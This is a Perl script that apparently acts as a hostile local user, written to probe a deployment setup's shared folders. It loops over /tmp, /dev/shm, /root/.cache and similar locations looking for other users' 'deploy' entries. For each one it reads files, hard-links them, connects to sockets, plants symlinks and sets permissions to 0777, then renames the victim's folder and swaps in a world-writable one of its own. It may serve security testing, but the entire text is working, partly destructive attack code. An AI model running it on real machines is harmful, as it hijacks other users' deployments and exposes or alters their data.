# Another user on the operator's computer: watches wherever both can write, and tries to look into,
# change, rename, link and replace all that comes up there. Says what works.
use strict;
use Socket;

$| = 1;
my %seen;
my @folders = qw(/tmp /var/tmp /dev/shm /run/open /run/theirs /var/cache/open /root/.cache);

sub won { print "won: @_\n" }

# Of a folder or file of somebody else, whose name may be what the next program goes to.
sub attack {
  my ($path) = @_;
  if (opendir my $inside, $path) {
    won("looked into $path") if $path =~ m{/deploy};
    for my $name (grep { !/^\.\.?$/ } readdir $inside) {
      open my $file, "<", "$path/$name" and won("read $path/$name");
      link "$path/$name", "/tmp/linked-$$-$name" and won("linked $path/$name");
      socket(my $socket, PF_UNIX, SOCK_STREAM, 0) or next;
      connect $socket, sockaddr_un("$path/$name") and won("connected to $path/$name");
    }
  }
  open my $new, ">", "$path/mine" and won("wrote to $path");
  symlink "/tmp/mine", "$path/s" and won("made a link in $path");
  chmod 0777, $path and won("opened $path");
}

# Where no sticky bit keeps names, he puts a folder of his own in the place of the operator's.
sub replace {
  my ($path) = @_;
  return unless rename $path, "$path-$$-" . time;
  won("replaced $path") if $path =~ m{^/tmp/};
  mkdir $path, 0777;
  mkdir "$path/evaluations", 0777;
}

print "at work\n";
while (1) {
  for my $folder (@folders) {
    opendir my $all, $folder or next;
    for my $path (map {"$folder/$_"} grep {/^deploy/} readdir $all) {
      my ($inode, $owner) = (lstat $path)[1, 4];
      next if !defined $owner || $owner == 65534;
      print "saw: $path\n" unless $seen{"$path $inode"}++;
      attack($path);
      replace($path);
    }
  }
}
